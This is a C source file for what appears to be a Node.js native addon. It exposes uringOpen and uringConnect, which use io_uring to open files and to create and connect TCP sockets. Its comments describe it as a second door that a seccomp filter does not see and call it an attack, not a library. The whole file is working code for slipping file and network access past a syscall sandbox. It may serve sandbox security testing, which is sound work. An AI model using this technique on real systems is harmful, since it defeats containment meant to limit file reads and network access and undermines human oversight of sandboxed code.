// SPDX-License-Identifier: Apache-2.0
// io_uring: a second door to open and connect that a seccomp filter does not see.
#define _GNU_SOURCE
#include "native.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

struct ring {
  int fd;
  struct io_uring_params parameters;
  char *queue;
  struct io_uring_sqe *entries;
};

static long ring_open(struct ring *ring) {
  memset(ring, 0, sizeof *ring);
  ring->fd = (int)syscall(SYS_io_uring_setup, 4, &ring->parameters);
  if (ring->fd < 0) return -errno;
  size_t length = ring->parameters.cq_off.cqes + ring->parameters.cq_entries * sizeof(struct io_uring_cqe);
  ring->queue = mmap(NULL, length, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring->fd, IORING_OFF_SQ_RING);
  if (ring->queue == MAP_FAILED) return -errno;
  ring->entries = mmap(NULL, ring->parameters.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
                       MAP_SHARED | MAP_POPULATE, ring->fd, IORING_OFF_SQES);
  return ring->entries == MAP_FAILED ? -errno : 0;
}

// One entry, one answer. The rings are freed with the process: this is an attack, not a library.
static long ring_do(struct ring *ring, const struct io_uring_sqe *entry) {
  unsigned *tail = (unsigned *)(ring->queue + ring->parameters.sq_off.tail);
  unsigned mask = *(unsigned *)(ring->queue + ring->parameters.sq_off.ring_mask);
  unsigned *array = (unsigned *)(ring->queue + ring->parameters.sq_off.array);
  unsigned slot = *tail & mask;
  ring->entries[slot] = *entry;
  array[slot] = slot;
  __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
  if (syscall(SYS_io_uring_enter, ring->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) return -errno;
  unsigned *head = (unsigned *)(ring->queue + ring->parameters.cq_off.head);
  unsigned completed = *(unsigned *)(ring->queue + ring->parameters.cq_off.ring_mask);
  struct io_uring_cqe *answers = (struct io_uring_cqe *)(ring->queue + ring->parameters.cq_off.cqes);
  long result = answers[*head & completed].res;
  __atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
  return result;
}

// uringOpen(path): a descriptor.
napi_value uring_open(napi_env env, napi_callback_info info) {
  struct argument argument[MAX_ARGUMENTS] = {0};
  struct ring ring;
  int count = read_arguments(env, info, argument, 0, NULL);
  if (count < 1) return NULL;
  long result = ring_open(&ring);
  if (result == 0) {
    struct io_uring_sqe entry = {.opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .addr = (uint64_t)argument[0].value,
                                 .open_flags = O_RDONLY};
    result = ring_do(&ring, &entry);
  }
  release_arguments(argument, count);
  return number(env, (double)result);
}

// uringConnect(sockaddr, length): makes the socket through the ring too. A connected descriptor.
napi_value uring_connect(napi_env env, napi_callback_info info) {
  struct argument argument[MAX_ARGUMENTS] = {0};
  struct ring ring;
  int count = read_arguments(env, info, argument, 0, NULL);
  if (count < 2) return NULL;
  long result = ring_open(&ring);
  if (result == 0) {
    struct io_uring_sqe entry = {.opcode = IORING_OP_SOCKET, .fd = 2 /* AF_INET */, .off = 1 /* SOCK_STREAM */};
    long made = ring_do(&ring, &entry);
    result = made;
    if (made >= 0) {
      struct io_uring_sqe connect = {.opcode = IORING_OP_CONNECT, .fd = (int)made, .addr = (uint64_t)argument[0].value,
                                     .off = (uint64_t)argument[1].value};
      result = ring_do(&ring, &connect);
    }
  }
  release_arguments(argument, count);
  return number(env, (double)result);
}
